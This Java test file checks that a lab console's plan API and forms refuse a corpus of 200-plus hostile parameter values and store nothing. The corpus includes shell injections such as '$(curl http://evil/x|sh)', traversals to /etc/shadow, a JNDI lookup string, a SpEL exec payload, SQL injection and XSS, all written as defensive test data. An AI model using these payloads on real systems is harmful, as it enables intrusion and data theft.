package io.lockstep.run;

import static org.assertj.core.api.Assertions.assertThat;

import io.lockstep.procedure.Parameter;
import io.lockstep.procedure.Parameter.Type;
import io.lockstep.procedure.Procedure;
import io.lockstep.procedure.Procedures;
import io.lockstep.testing.ApiClient;
import io.lockstep.testing.ConsoleClient;
import io.lockstep.testing.LabConsoleTest;
import java.io.IOException;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Bad input changes nothing: a corpus of more than 200 hostile values (controls, shell syntax,
 * options, globs, bidi and zero-width characters, homoglyphs, traversals, overflowing numbers,
 * negative durations, a 5 MB string, …) put into every parameter of every shipped procedure, one at
 * a time, the others valid, through {@code POST /api/plans} and {@code PUT /api/plans/{id}} (the
 * first parameter of each type in each procedure; the others through the binder those call). Each
 * is refused with a 400 {@code application/problem+json} whose {@code errors} name exactly that
 * parameter; never a 5xx; afterwards no plan, plan version, run or plan event more than before, so
 * nothing built from these values can reach a lab node (only a run sends commands to nodes, and
 * the plan's own checks run after the values are accepted).
 *
 * <p>Some hostile values are legitimately valid for one type and must be accepted for that type
 * only: a {@code secret} (a password) takes any printable characters, so {@code $(reboot)}, quotes,
 * {@code ;} or Cyrillic letters are fine passwords, while NUL, line breaks, bidi and zero-width
 * characters and 257 characters are not; a {@code path} takes {@code /etc/shadow} (its grammar is
 * absolute and normalized, not "harmless"); a {@code nodeset} takes {@code @vm:running}; an empty
 * string is "not given", refused only where a value is required. For those pairs the test checks
 * that the procedure binds the value, and the same value stays refused for every other type.
 */
class HostileValuesConsoleTest extends LabConsoleTest {

  /** Writes every non-ASCII character escaped, so that a lone surrogate reaches the console as it is. */
  private static final JsonMapper JSON = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
  private static final int FIVE_MB = 5 * 1024 * 1024;

  private static final Map<String, Map<String, Object>> VALID = ShippedPlanValues.VALID;
  /** Refused without a planner's rows: its values are checked by binding them instead of storing a plan. */
  private static final String NEEDS_DATA = "proton-node-migration";

  @LocalServerPort
  int port;

  @Autowired
  Procedures procedures;

  @Autowired
  JdbcClient jdbc;

  /** The types of names; a short run of lower-case letters and digits (99999999999999999999, 1e9) is one of each. */
  private static final Set<Type> NAME_TYPES =
      EnumSet.of(Type.NODE, Type.NODES, Type.NAMES, Type.K8S_NAME, Type.K8S_NAMESPACE, Type.USER, Type.NODESET);
  /** What {@code user} and {@code nodeset} take beyond lower-case names: upper case, '_', a trailing '.' or '-'. */
  private static final Type[] LOOSE_NAMES = {Type.USER, Type.NODESET};
  /** What a DNS subdomain is besides a label: dotted (1.5), which a user and a node set take too. */
  private static final Type[] DOTTED_NAMES = {Type.NODE, Type.NODES, Type.NAMES, Type.K8S_NAME, Type.USER, Type.NODESET};

  /**
   * A hostile value and the types for which it is, by their grammar, a legitimate value (besides
   * text and secrets, see {@link #legitimate}).
   */
  record Hostile(String label, Object value, Set<Type> legitFor) {
    static Hostile of(String label, Object value, Type... legitFor) {
      Set<Type> legit = EnumSet.noneOf(Type.class);
      legit.addAll(List.of(legitFor));
      if ((value instanceof String || value instanceof Integer) && String.valueOf(value).matches("[a-z0-9]{1,63}")) {
        legit.addAll(NAME_TYPES);
      }
      return new Hostile(label, value, legit);
    }
  }

  static List<Hostile> corpus() {
    List<Hostile> corpus = new ArrayList<>();
    // Every C0 control, DEL and every C1 control, inside an otherwise plain name.
    IntStream.concat(IntStream.rangeClosed(0x00, 0x1F), IntStream.rangeClosed(0x7F, 0x9F)).forEach(c ->
        corpus.add(Hostile.of(String.format("control U+%04X", c), "node-1" + (char) c + "x")));
    corpus.add(Hostile.of("NUL alone", "\u0000"));
    corpus.add(Hostile.of("NUL at the end", "anyshare\u0000"));
    corpus.add(Hostile.of("NUL in a secret-like value", "hunter2\u0000--x"));
    // Bidi embeddings, overrides, isolates, marks; zero-width and other format characters; separators.
    for (int c : new int[] {0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E,
        0x200F, 0x061C, 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x180E, 0x00AD, 0x2028, 0x2029}) {
      corpus.add(Hostile.of(String.format("invisible U+%04X", c), "any" + (char) c + "share"));
      corpus.add(Hostile.of(String.format("invisible U+%04X alone", c), String.valueOf((char) c)));
    }
    corpus.add(Hostile.of("RTL override spoofing a file name", "node-1\u202Egpj.exe"));
    corpus.add(Hostile.of("lone high surrogate", "node-\uD800"));
    corpus.add(Hostile.of("private use", "node-\uE000"));
    corpus.add(Hostile.of("unassigned code point", "node-\u0378"));
    corpus.add(Hostile.of("noncharacter", "node-\uFFFF"));
    // Shell syntax.
    for (String shell : List.of("$(reboot)", "`reboot`", "node-1;reboot", "node-1; reboot", "node-1|reboot",
        "node-1 | sh", "node-1&&reboot", "node-1 && reboot", "node-1||reboot", "node-1&", "node-1 &", "$HOME",
        "${IFS}", "node-1${IFS}reboot", "$(curl http://evil/x|sh)", "node-1$(id)", "node-1`id`", "node-1>/etc/passwd",
        "node-1 > /tmp/x", "node-1</etc/shadow", "node-1 #", "#node-1", "node-1'", "node-1\"", "'node-1'",
        "\"node-1\"", "'; DROP TABLE plan; --", "\"$(id)\"", "node-1\\", "node-1\\nreboot", "node-1\nreboot",
        "node-1\r\nreboot", "node-1\rreboot", "node-1\treboot", "a=$(reboot)", "!!", "node-1!", "(reboot)",
        "{reboot,}", "node-1)", "<(reboot)", "node-1 2>&1", "%0areboot", "node-1%00", "node-1%0a", "\\x00",
        "\\u0000", "a\u00A0b", " ")) {
      corpus.add(Hostile.of("shell " + shell, shell));
    }
    // Options where a name goes.
    for (String option : List.of("-rf", "--foo", "--help", "-", "--", "-x top1", "--bwlimit=0",
        "-oProxyCommand=reboot", "--rsh=sh", "-e sh")) {
      corpus.add(Hostile.of("option " + option, option));
    }
    // Globs, braces, node set operators.
    for (String glob : List.of("*", "?", "node-?", "node-*", "{a,b}", "node-{1,2}", "~root", "~", "!node-1",
        "node-1^", "@top&@worker", "@top!@worker", "@top^@worker", "@vm:*", "@*", "@", "top[1-", "top[3-1]",
        "top[a-c]", "top[1-3]]", "[1-3]", "top[]", "top[1-9999999]")) {
      corpus.add(Hostile.of("glob " + glob, glob));
    }
    corpus.add(Hostile.of("a ClusterShell group source", "@vm:running", Type.NODESET));
    corpus.add(Hostile.of("a host range", "node-[1-3]", Type.NODESET));
    // Traversal and odd paths.
    for (String path : List.of("../etc", "../../etc/passwd", "/sysvol/../etc", "/sysvol/./x", "./x", "/a//b", "/a/",
        "/", "//", "C:\\Windows", "%2e%2e/etc", "/sysvol/..", "/a b", "/a;reboot", "/a$(id)", "/a*", "/a?",
        "/a'b", "/a\"b", "/a|b", "/a&b", "/a<b", "/a>b", "file:///etc/passwd", "\\\\server\\share", "/a\\b",
        "/" + "a".repeat(300))) {
      corpus.add(Hostile.of("path " + path, path));
    }
    corpus.add(Hostile.of("an absolute path to a sensitive file", "/etc/shadow", Type.PATH));
    corpus.add(Hostile.of("a path in another script", "/sysvol/数据", Type.PATH));
    // Homoglyphs and look-alikes of real names.
    for (String glyph : List.of("nоde-1", "аnyshare", "node‐1", "node－1", "ｎｏｄｅ-1", "node-1\u00A0",
        "node\u3000one", "ⅰnode", "node-1\u0301", ".node", "-node")) {
      corpus.add(Hostile.of("look-alike " + glyph, glyph));
    }
    for (String loose : List.of("NODE-1", "Anyshare", "node_1", "node.", "node..1", "node-")) {
      corpus.add(Hostile.of("look-alike " + loose, loose, LOOSE_NAMES));
    }
    // Lengths.
    corpus.add(Hostile.of("254 characters", "a".repeat(254), Type.NODESET));
    corpus.add(Hostile.of("a 64-character label", "a".repeat(64), LOOSE_NAMES));
    corpus.add(Hostile.of("257 characters", "a".repeat(257), Type.NODESET));
    corpus.add(Hostile.of("100 kB", "a".repeat(100_000)));
    corpus.add(Hostile.of("5 MB", "a".repeat(FIVE_MB)));
    corpus.add(Hostile.of("5 MB of shell", "$(reboot);".repeat(FIVE_MB / 10)));
    corpus.add(Hostile.of("a list of 2000 names", String.join(",", IntStream.range(0, 2000).mapToObj(i -> "n" + i)
        .toList())));
    // Empty and blank.
    corpus.add(Hostile.of("empty", ""));
    for (String blank : List.of(" ", "   ", "\t", "\n", "\u00A0", "\u3000", "\u2028", " , ")) {
      corpus.add(Hostile.of("blank " + blank.codePointAt(0), blank));
    }
    // Numbers.
    for (Object number : List.of("99999999999999999999", new BigInteger("99999999999999999999"), "-1", -1,
        "-9223372036854775808", "9223372036854775807", "2147483648", "10000001", 10_000_001, "1e9", "0x10",
        1.5, "+-1", "٣", "1'000")) {
      corpus.add(Hostile.of("number " + number + " (" + number.getClass().getSimpleName() + ")", number));
    }
    corpus.add(Hostile.of("number 1.5 (String)", "1.5", DOTTED_NAMES));
    for (String loose : List.of("NaN", "Infinity", "1_000")) {
      corpus.add(Hostile.of("number " + loose, loose, LOOSE_NAMES));
    }
    // Durations.
    for (String duration : List.of("-5m", "-0s", "0s", "0ms", "999999999d", "1m1m", "m", "1y", "1w", "8d")) {
      corpus.add(Hostile.of("duration " + duration, duration));
    }
    corpus.add(Hostile.of("duration without a unit", "10", Type.INT));
    corpus.add(Hostile.of("duration with a fraction", "1.5h", DOTTED_NAMES));
    corpus.add(Hostile.of("duration with a minus inside", "1h-30m", Type.NODE, Type.NODES, Type.NAMES, Type.K8S_NAME,
        Type.K8S_NAMESPACE, Type.USER, Type.NODESET));
    for (String loose : List.of("5M", "PT5M")) {
      corpus.add(Hostile.of("duration " + loose, loose, LOOSE_NAMES));
    }
    // JSON shapes a single value cannot take.
    corpus.add(Hostile.of("a nested list", List.of(List.of("node-1"))));
    corpus.add(Hostile.of("a list with a hostile item", List.of("node-1", "$(reboot)")));
    corpus.add(Hostile.of("a list with NUL", List.of("node-1\u0000")));
    corpus.add(Hostile.of("a map", Map.of("a", "b")));
    corpus.add(Hostile.of("an empty list", List.of()));
    // Injections aimed at other layers.
    for (String other : List.of("<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil/a}", "${params.node}",
        "#{T(java.lang.Runtime).getRuntime().exec('reboot')}", "' or '1'='1", "%s%s%s%n", "\u001B[2J",
        "\u001B]0;pwned\u0007")) {
      corpus.add(Hostile.of("injection " + other, other));
    }
    return corpus;
  }

  @Test
  void theCorpusHasMoreThan200DistinctValues() {
    assertThat(corpus().stream().map(Hostile::value).distinct().count()).isGreaterThanOrEqualTo(200);
  }

  @Test
  void everyHostileValueInEveryParameterOfEveryShippedProcedureIsRefusedAndChangesNothing() throws IOException {
    ApiClient api = api();
    List<Procedure> shipped = shipped();
    assertThat(shipped).extracting(Procedure::id).containsExactlyInAnyOrderElementsOf(VALID.keySet());
    Map<String, String> planOf = new LinkedHashMap<>();
    for (Procedure p : shipped) {
      assertThat(p.bind(VALID.get(p.id()))).as("%s takes its valid values", p.id()).isNotNull();
      if (!p.id().equals(NEEDS_DATA)) {
        ApiClient.Answer made = api.post("/api/plans", body(p.id(), VALID.get(p.id())));
        assertThat(made.status()).as("%s: %s", p.id(), made).isEqualTo(201);
        planOf.put(p.id(), made.body().get("id").asString());
      }
    }
    Counts before = counts();
    List<Hostile> corpus = corpus();
    SoftAssertions softly = new SoftAssertions();
    int refused = 0;
    int legit = 0;
    int bound = 0;
    for (Procedure p : shipped) {
      Set<Type> overHttp = EnumSet.noneOf(Type.class);
      for (Parameter parameter : p.parameters()) {
        // the first parameter of each type in each procedure goes through the API; the others of
        // that type through the same binder the API calls (sending a 5 MB value for every one of
        // them cost minutes and tested the same code)
        boolean typeOverHttp = overHttp.add(parameter.type());
        boolean firstOfProcedure = parameter == p.parameters().get(0);
        for (Hostile h : corpus) {
          // values of 100 kB and more (the size limits in front of the binder) over HTTP once per procedure
          boolean http = typeOverHttp && (firstOfProcedure || !huge(h));
          Map<String, Object> values = new LinkedHashMap<>(VALID.get(p.id()));
          values.put(parameter.name(), h.value());
          String what = p.id() + "." + parameter.name() + " (" + parameter.type().written() + ") ← " + h.label();
          if (legitimate(parameter, h)) {
            Map<String, Object> given = new LinkedHashMap<>(values);
            given.values().remove("");
            softly.assertThatCode(() -> p.bind(given)).as("accepted: %s", what).doesNotThrowAnyException();
            legit++;
            continue;
          }
          if (!http) {
            softly.assertThatThrownBy(() -> p.bind(values)).as("refused: %s", what)
                .isInstanceOfSatisfying(Procedure.InvalidValues.class, e ->
                    assertThat(e.byParameter().keySet()).as("fields named for %s", what).containsExactly(parameter.name()));
            bound++;
            continue;
          }
          checkRefused(softly, api.post("/api/plans", body(p.id(), values)), parameter, h, what + " (POST)");
          // Editing goes through the same check: every third value of the corpus, to keep the test short.
          if (planOf.containsKey(p.id()) && corpus.indexOf(h) % 3 == 0) {
            checkRefused(softly, api.put("/api/plans/" + planOf.get(p.id()), edit(values)), parameter, h,
                what + " (PUT)");
          }
          refused++;
        }
      }
    }
    softly.assertAll();
    assertThat(refused).as("refused through the API").isGreaterThan(200 * 15);
    assertThat(refused + bound).as("refused in all").isGreaterThan(200 * 20);
    assertThat(legit).as("values accepted for their type only").isPositive();
    assertThat(counts()).as("no plan, version, run or plan event was added").isEqualTo(before);
    for (String planId : planOf.values()) {
      assertThat(api.get("/api/plans/" + planId).body().get("version").asInt()).isEqualTo(1);
    }
  }

  @Test
  void anUnknownHostileNameIsRefusedWithoutEchoingIt() {
    Counts before = counts();
    ApiClient.Answer answer = api().post("/api/plans", body("restart-master-node",
        Map.of("node", "node-2", "x\u0000\u202E" + "y".repeat(10_000), "1")));
    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.text()).hasSizeLessThan(2_000).doesNotContain("\u0000").doesNotContain("\u202E")
        .contains("has no parameter 'x\\\\u0000\\\\u202Eyyy");
    assertThat(counts()).isEqualTo(before);
  }

  @Test
  void aHostileTitleIsRefused() {
    Counts before = counts();
    ApiClient api = api();
    for (String title : List.of("plan\u202Egnp.exe", "plan\u0085", "plan\u0000", "plan\u200B", "t".repeat(201))) {
      ApiClient.Answer answer = api.post("/api/plans", JSON.writeValueAsString(Map.of("procedure",
          "restart-master-node", "title", title, "values", Map.of("node", "node-2"))));
      assertThat(answer.status()).as(answer.toString()).isEqualTo(400);
      assertThat(answer.body().get("detail").asString()).startsWith("a plan title is one line of at most 200");
    }
    assertThat(counts()).isEqualTo(before);
  }

  @Test
  void theFormShowsTheRefusalNextToTheFieldAndStoresNothing() {
    Counts before = counts();
    ConsoleClient console = new ConsoleClient(port);
    console.logIn("op1", DEMO_PASSWORD);
    HttpResponse<String> page = console.htmxPost("/plans/new?procedure=demo-node-check", "/plans",
        "procedure=demo-node-check&title=hostile&value.app_namespace="
            + URLEncoder.encode("anyshare;reboot", StandardCharsets.UTF_8)
            + "&value.deployment=" + URLEncoder.encode("message-center\u202E", StandardCharsets.UTF_8));
    assertThat(page.statusCode()).isEqualTo(200);
    String html = page.body();
    assertThat(fieldBlock(html, "app_namespace")).contains("field-error")
        .contains("is not a Kubernetes namespace");
    assertThat(fieldBlock(html, "deployment")).contains("field-error").contains("holds U+202E");
    assertThat(fieldBlock(html, "disk_node")).doesNotContain("field-error");
    assertThat(counts()).isEqualTo(before);
  }

  @Test
  void aPlanEventCarriesAtMostAShortFormOfTheValues() {
    // names the plan checks do not look up in the cluster (P4's nodes must be the cluster's own)
    List<String> volumes = IntStream.range(0, 200).mapToObj(i -> "vol-" + i + "-" + "x".repeat(50)).toList();
    Map<String, Object> values = new java.util.HashMap<>(VALID.get("restart-vm-cluster"));
    values.put("volumes", String.join(",", volumes));
    ApiClient.Answer made = api().post("/api/plans", body("restart-vm-cluster", values));
    assertThat(made.status()).as(made.toString()).isEqualTo(201);
    String details = jdbc.sql("SELECT details FROM audit_event WHERE type = 'PLAN_CREATED' ORDER BY seq DESC"
        + " FETCH FIRST 1 ROWS ONLY").query(String.class).single();
    assertThat(details).contains(made.body().get("id").asString()).contains("characters in all").hasSizeLessThan(3_000);
  }

  private static void checkRefused(SoftAssertions softly, ApiClient.Answer answer, Parameter parameter, Hostile h,
      String what) {
    if (answer.status() == 413 && h.value() instanceof String s && s.length() >= FIVE_MB) {
      return; // a size limit in front of the API refuses it before the types do: also a 4xx problem
    }
    softly.assertThat(answer.status()).as("status of %s: %s", what, answer).isEqualTo(400);
    JsonNode body = answer.body();
    softly.assertThat(body).as("problem body of %s", what).isNotNull();
    if (body == null) {
      return;
    }
    softly.assertThat(body.path("status").asInt()).as("problem of %s", what).isEqualTo(400);
    List<String> named = new ArrayList<>();
    body.path("errors").forEach(e -> named.add(e.path("parameter").asString()));
    softly.assertThat(named).as("fields named for %s: %s", what, answer).containsExactly(parameter.name());
    softly.assertThat(answer.text().length()).as("size of the refusal of %s", what).isLessThan(3_000);
    if (h.value() instanceof String s && s.codePoints().anyMatch(c -> !printable(c))) {
      softly.assertThat(answer.text().codePoints().filter(c -> !printable(c) && c != '\n').boxed().toList())
          .as("invisible characters echoed for %s", what).isEmpty();
    }
  }

  /**
   * Whether the value is one the parameter's type legitimately takes: see the class comment. Text
   * and secrets take one non-blank line of printable characters up to their limit.
   */
  private static boolean legitimate(Parameter parameter, Hostile h) {
    if ("".equals(h.value())) {
      return !parameter.required();
    }
    if (h.legitFor().contains(parameter.type())) {
      return true;
    }
    if ((parameter.type() == Type.SECRET || parameter.type() == Type.TEXT)
        && (h.value() instanceof String || h.value() instanceof Integer)) {
      String s = String.valueOf(h.value()); // a JSON number is text to them, as a form's field is
      return !s.isBlank() && s.codePointCount(0, s.length()) <= (Long) parameter.max()
          && (parameter.type() != Type.SECRET || s.strip().length() >= Parameter.MIN_SECRET_LENGTH)
          && s.codePoints().allMatch(HostileValuesConsoleTest::printable);
    }
    return false;
  }

  private static boolean huge(Hostile h) {
    return h.value() instanceof String s && s.length() >= 100_000;
  }

  private static boolean printable(int c) {
    return switch (Character.getType(c)) {
      case Character.CONTROL, Character.FORMAT, Character.LINE_SEPARATOR, Character.PARAGRAPH_SEPARATOR,
          Character.SURROGATE, Character.UNASSIGNED, Character.PRIVATE_USE -> false;
      default -> true;
    };
  }

  /** The HTML of the form field of one parameter. */
  private static String fieldBlock(String html, String parameter) {
    int start = html.indexOf("data-parameter=\"" + parameter + "\"");
    assertThat(start).as("the form has a field for %s", parameter).isNotNegative();
    int end = html.indexOf("data-parameter=", start + 20);
    return html.substring(start, end < 0 ? html.length() : end);
  }

  record Counts(long plans, long versions, long runs, long planEvents) {}

  private Counts counts() {
    return new Counts(count("SELECT COUNT(*) FROM plan"), count("SELECT COUNT(*) FROM plan_version"),
        count("SELECT COUNT(*) FROM run"),
        count("SELECT COUNT(*) FROM audit_event WHERE type IN ('PLAN_CREATED', 'PLAN_EDITED', 'RUN_REQUESTED')"));
  }

  private long count(String sql) {
    return jdbc.sql(sql).query(Long.class).single();
  }

  private ApiClient api() {
    ApiClient.Answer made = ApiClient.basic(port, "op1", DEMO_PASSWORD).post("/api/tokens", "{\"label\":\"corpus\"}");
    assertThat(made.status()).as(made.toString()).isEqualTo(201);
    return ApiClient.bearer(port, made.body().get("token").asString());
  }

  private List<Procedure> shipped() throws IOException {
    try (Stream<Path> files = Files.list(Path.of("config/procedures"))) {
      Set<String> ids = files.map(f -> f.getFileName().toString()).filter(n -> n.endsWith(".yml"))
          .map(n -> n.substring(0, n.length() - 4)).collect(Collectors.toCollection(LinkedHashSet::new));
      return ids.stream().map(id -> procedures.byId(id).orElseThrow()).toList();
    }
  }

  private static String body(String procedure, Map<String, Object> values) {
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("procedure", procedure);
    body.put("title", "hostile");
    body.put("values", values);
    return JSON.writeValueAsString(body);
  }

  private static String edit(Map<String, Object> values) {
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("version", 1);
    body.put("values", values);
    return JSON.writeValueAsString(body);
  }
}
